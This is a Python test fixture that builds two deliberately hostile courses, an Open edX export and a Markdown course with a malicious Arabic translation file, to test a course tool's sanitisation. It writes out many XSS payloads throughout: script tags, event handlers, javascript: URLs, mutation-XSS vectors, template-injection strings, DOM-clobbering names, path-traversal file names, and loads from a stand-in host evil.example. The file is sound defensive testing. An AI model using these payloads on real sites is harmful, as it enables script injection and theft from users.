"""Two courses whose authors and translators want to harm those who read them.

Wherever somebody may write, these try each way there is to run a script, to ask a third party for something, or to
pass for a part of the site. What runs says so in `window.hits`.
"""

import json
from html import escape
from pathlib import Path

from lxml import etree
from lxml.html import fragments_fromstring

from polylect import markdown
from polylect.course.files import open_folder
from polylect.messages import Target, po
from polylect.messages.blocks import find_all

EVIL = "https://evil.example"
HIT = "(window.hits=window.hits||[]).push(1)"

FRAGMENTS = (
    f"<script>{HIT}</script>",
    f"<script src='{EVIL}/a.js'></script>",
    f"<img src=x onerror='{HIT}'>",
    f"<svg onload='{HIT}'><script>{HIT}</script><a xlink:href='javascript:{HIT}'>x</a></svg>",
    f"<svg><image href='{EVIL}/s.png'/><use href='{EVIL}/s.svg#x'/></svg>",
    f"<math><maction actiontype='statusline#{EVIL}' xlink:href='javascript:{HIT}'>x</maction></math>",
    f"<math href='javascript:{HIT}'><mi href='{EVIL}/m'>x</mi></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HIT}&gt;">',
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror='{HIT}'></style></annotation-xml></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{HIT}'>\">x</p></noscript>",
    f"<template><img src=x onerror='{HIT}'></template>",
    f"<iframe src='{EVIL}/f'></iframe><iframe srcdoc='<script>parent.hits=[1]</script>'></iframe>",
    f"<object data='{EVIL}/o'></object><embed src='{EVIL}/e'><applet code='{EVIL}/p'></applet>",
    f"<link rel=stylesheet href='{EVIL}/l.css'>"
    f"<style>@import '{EVIL}/i.css'; body{{background:url({EVIL}/b.png)}}</style>",
    f"<p style='background:url({EVIL}/p.png);position:fixed;inset:0'>x</p><table background='{EVIL}/t.png'></table>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'><base href='{EVIL}/'>",
    f"<form action='{EVIL}/'><input name=csrfmiddlewaretoken><button formaction='javascript:{HIT}'>x</button></form>",
    f"<input autofocus onfocus='{HIT}'><details open ontoggle='{HIT}'><summary>x</summary></details>",
    f"<a href='javascript:{HIT}'>x</a><a href=' java&#10;script:{HIT}'>x</a>"
    "<a href='data:text/html,<script>1</script>'>x</a>",
    f"<a href='{EVIL}/' target=_blank ping='{EVIL}/ping' onclick='{HIT}'>x</a>",
    f"<img src='{EVIL}/i.png'><img src='//evil.example/j.png'><img src='/\\evil.example/k.png'>"
    f"<img src='/&#9;/evil.example/t.png'><img src='https:evil.example/n.png'><img srcset='{EVIL}/r.png 1x'>",
    f"<picture><source srcset='{EVIL}/c.png'><img src='/static/none.png' srcset='{EVIL}/d.png'></picture>",
    f"<video src='{EVIL}/v.webm' poster='{EVIL}/v.png' autoplay><track src='{EVIL}/v.vtt' default></video>",
    f"<audio autoplay><source src='{EVIL}/a.ogg'></audio><video autoplay poster='//evil.example/w.png'></video>",
    f"<body onload='{HIT}' background='{EVIL}/g.png'><frameset><frame src='{EVIL}/h'></frameset>",
    "<div class='site-header skip menu' id='main' data-player data-exercise data-keys-on role='dialog'>"
    "<dialog open>x</dialog><form id=contents></form></div>",
    "<p id='location' name='location'><img name='cookie' src='/static/none.png'></p><div data-transcript></div>",
    "<span data-place='q1'></span>\ue000q1\ue001<b title='\ue000q1\ue001'>x</b>",
    f"<b title='<table></table><img src=x onerror={HIT}>'>x</b><b title='<h2><div class=\"cases\">'>x</b>",
    f"\\(\\text{{&lt;img src=x onerror={HIT}&gt;}} \\href{{javascript:{HIT}}}{{x}}\\)"
    f"<i title='\\(x\\) onclick={HIT}'>x</i>",
    f"</div></section></main><script>{HIT}</script><!-- <plaintext> --><![CDATA[<script>{HIT}</script>]]>",
)
PLAIN = (
    f"\"'><script>{HIT}</script><img src={EVIL}/plain.png onerror='{HIT}'>{{{{7*7}}}}{{% now 'Y' %}}&lt;b&gt;%(x)s{{0}}"
)

CAPTIONS = f"""WEBVTT

STYLE
::cue {{ background-image: url({EVIL}/cue.png) }}

REGION
id:<script>
width:40%

00:00.000 --> 00:02.000 line:0 position:10%,line-left region:<script>
<v "><script>{HIT}</script>><c.site-header.{"x" * 50}>Voices</c> &lt;script&gt;{HIT}&lt;/script&gt;

00:02.000 --> 00:04.000
<lang en" onclick="{HIT}">tongues</lang> <lang ar><img src={EVIL}/v.png onerror={HIT}></lang>
<ruby>a<rt><script></rt></ruby>

00:04.000 --> 00:06.000
</p></li></ol><svg onload={HIT}> and the rest.
"""


def problem(html: str, plain: str) -> str:
    """One exercise of every kind, with this in each of its texts."""
    attribute = escape(plain)
    choices = f'<choice correct="true">{html}<choicehint label="{attribute}">{html}</choicehint></choice>'
    choices += f'<choice correct="false">{html}<choicehint>{html}</choicehint></choice>'
    return f"""<problem display_name="{attribute}" showanswer="always">{html}
<multiplechoiceresponse><label>{html}</label><description>{html}</description><choicegroup>{choices}</choicegroup>
<solution>{html}</solution></multiplechoiceresponse>
<choiceresponse><checkboxgroup>{choices}<compoundhint value="A">{html}</compoundhint></checkboxgroup></choiceresponse>
<optionresponse>{html}<optioninput><option correct="True">{html}{attribute}<optionhint>{html}</optionhint></option>
<option correct="False">{attribute}</option></optioninput></optionresponse>
<p>{html}<numericalresponse answer="42"><textline label="{attribute}" trailing_text="{attribute}" size="5"/>
</numericalresponse></p>
<stringresponse answer="{attribute}"><label>{html}</label><textline trailing_text="{attribute}"/>
<stringequalhint answer="a">{html}</stringequalhint><correcthint>{html}</correcthint></stringresponse>
<truefalseresponse><label>{html}</label><choicegroup>{choices}</choicegroup></truefalseresponse>
<choicetextresponse><label>{html}</label><checkboxtextgroup>
<choice correct="true">{html}<numtolerance_input answer="1"/>{html}<choicehint>{html}</choicehint></choice>
<choice>{html}<decoy_input/></choice></checkboxtextgroup></choicetextresponse>
<imageresponse><label>{html}</label><imageinput src="{attribute}" alt="{attribute}" width="60" height="40"
rectangle="(1,1)-(9,9)"/><imageinput src="{EVIL}/p.png" alt="{attribute}"/><imageinput src="/static/x.svg" width="6"
height="4" alt="{attribute}"/><imageinput src="javascript:{HIT}"/></imageresponse>
<annotationresponse><annotationinput><title>{html}</title><text>{html}</text><comment>{html}</comment>
<comment_prompt>{html}</comment_prompt><tag_prompt>{html}</tag_prompt><options><option choice="correct">{html}
<optionhint>{html}</optionhint></option><option>{html}</option></options></annotationinput></annotationresponse>
<customresponse cfn="{attribute}"><label>{html}</label><textline/></customresponse>
<demandhint><hint>{html}</hint></demandhint><solution>{html}</solution></problem>"""


def olx(folder: Path) -> Path:
    """An Open edX export."""
    files = {"course.xml": '<course url_name="run" org="Evil" course="OLX"/>'}
    name = escape(PLAIN)
    blocks = []
    for number, fragment in enumerate(FRAGMENTS):
        files[f"html/h{number}.xml"] = f'<html filename="h{number}" display_name="{name}"/>'
        files[f"html/h{number}.html"] = fragment
        files[f"problem/p{number}.xml"] = problem(_as_xml(fragment), PLAIN)
        blocks.append(f'<html url_name="h{number}"/><problem url_name="p{number}"/>')
    verticals = [
        f'<vertical url_name="u{first}" display_name="{name}">{"".join(blocks[first : first + 8])}</vertical>'
        for first in range(0, len(blocks), 8)
    ]
    videos = f"""<vertical url_name="videos" display_name="Videos">
<video url_name="v1" display_name="{name}"><source src="/static/film.webm"/><transcript language="en" src="words.vtt"/>
<handout src="{EVIL}/handout.pdf"/></video>
<video url_name="v2" display_name="{name}" youtube_id_1_0="x&quot;onload=1"><source src="{EVIL}/a.mp4"/></video>
<video url_name="v3" display_name="{name}"><source src="https://[evil"/><source src="javascript:alert(1)"/></video>
<video url_name="v4" display_name="{name}" youtube_id_1_0="abcdefghijk" poster="{EVIL}/poster.png"/>
<video url_name="v5" display_name="{name}"><source src="https://user:pass@evil.example:99999/x.mp4"/></video>
<poll url_name="f1" display_name="{name}"><script>{HIT}</script></poll>
<html url_name="main" display_name="x">&lt;p&gt;x&lt;/p&gt;</html>
<library_content url_name="s1" display_name="{name}" max_count="1">
<html url_name="s2">{_as_xml(FRAGMENTS[2])}</html></library_content>
</vertical>"""
    files["course/run.xml"] = (
        f'<course display_name="{name}" language="en"><chapter url_name="c" display_name="{name}">'
        f'<sequential url_name="s" display_name="{name}">{"".join(verticals)}{videos}</sequential></chapter></course>'
    )
    files["about/overview.html"] = "".join(FRAGMENTS[:-1])
    files["about/short_description.html"] = PLAIN
    files["tabs/page.html"] = "".join(FRAGMENTS[:-1])
    files["info/updates.html"] = f"<ol><li><h2>{PLAIN}</h2>{FRAGMENTS[2]}</li></ol>"
    files["info/handouts.html"] = FRAGMENTS[0]
    tabs = [{"type": "static_tab", "url_slug": "page", "name": PLAIN}]
    files["policies/run/policy.json"] = json.dumps({"course/run": {"display_name": PLAIN, "tabs": tabs}})
    files["policies/assets.json"] = "{}"
    files["static/words.vtt"] = CAPTIONS
    for asset in ("film.webm", 'a"onload=1 .png', "<script>.html", "x.svg", "%2e%2e%2fpasswd", "a\u202egnp.exe"):
        files[f"static/{asset}"] = (
            f"<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'><script>{HIT}</script></svg>"
        )
    return _written(folder / "olx", files)


def text_files(folder: Path) -> Path:
    """A course in text files whose every text is translated into Arabic by somebody who wants to harm."""
    fragments = "\n\n".join(fragment.replace("\n", " ") for fragment in FRAGMENTS)
    name = json.dumps(PLAIN)
    files = {
        "course.yaml": f"org: Evil\ncode: MD\nrun: run\ntitle: {name}\nlanguage: en\nabout: about.md\nsections:\n"
        f"  - code: c\n    title: {name}\n    subsections:\n      - code: s\n        title: {name}\n"
        "        units: [units/a.md]\n",
        "about.md": f"---\nsummary: {name}\n---\n{fragments}\n",
        "units/a.md": f"---\ntitle: {name}\n---\n{fragments}\n\n[x](javascript:alert(1)) ![x]({EVIL}/m.png)"
        f" <{EVIL}/auto> [y](//evil.example)\n\n"
        f"::: video v\ntitle: {name}\nsources: [media/film.webm, '{EVIL}/v.mp4']\n"
        f"captions: {{en: media/words.vtt}}\n:::\n\n"
        f"::: exercise e\ntitle: {name}\n---\n>>{FRAGMENTS[2]} Which?||{PLAIN}<<\n\n"
        f"(x) {FRAGMENTS[2]} {{{{ {FRAGMENTS[2]} }}}}\n"
        f"( ) {PLAIN}\n\n||{FRAGMENTS[2]}||\n\n[explanation]\n{FRAGMENTS[2]}\n[explanation]\n:::\n",
        "media/film.webm": "no film",
        "media/words.vtt": CAPTIONS,
    }
    course_folder = _written(folder / "md", files)
    with open_folder(course_folder) as opened:
        course, _issues = markdown.read(opened)
    assert course is not None
    attacks = [*FRAGMENTS, PLAIN]
    targets = {
        (code, message.role): Target(f"{attacks[number % len(attacks)]} {message.text}", "ar")
        for number, (code, message) in enumerate(find_all(course))
    }
    return _written(course_folder, {"translations/ar.po": po.write(course, "ar", targets, include_optional=True)})


def _as_xml(fragment: str) -> str:
    """The fragment as XML: as it is, as HTML's parser mends it, or where XML can have no such names, as text."""
    mended = b"".join(etree.tostring(piece) for piece in fragments_fromstring(fragment) if not isinstance(piece, str))
    for candidate in (fragment, mended.decode()):
        try:
            etree.fromstring(f"<p>{candidate}</p>")
        except etree.XMLSyntaxError:
            continue
        return candidate
    return escape(fragment, quote=False)


def _written(folder: Path, files: dict[str, str]) -> Path:
    for path, text in files.items():
        place = folder / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text, "utf-8")
    return folder
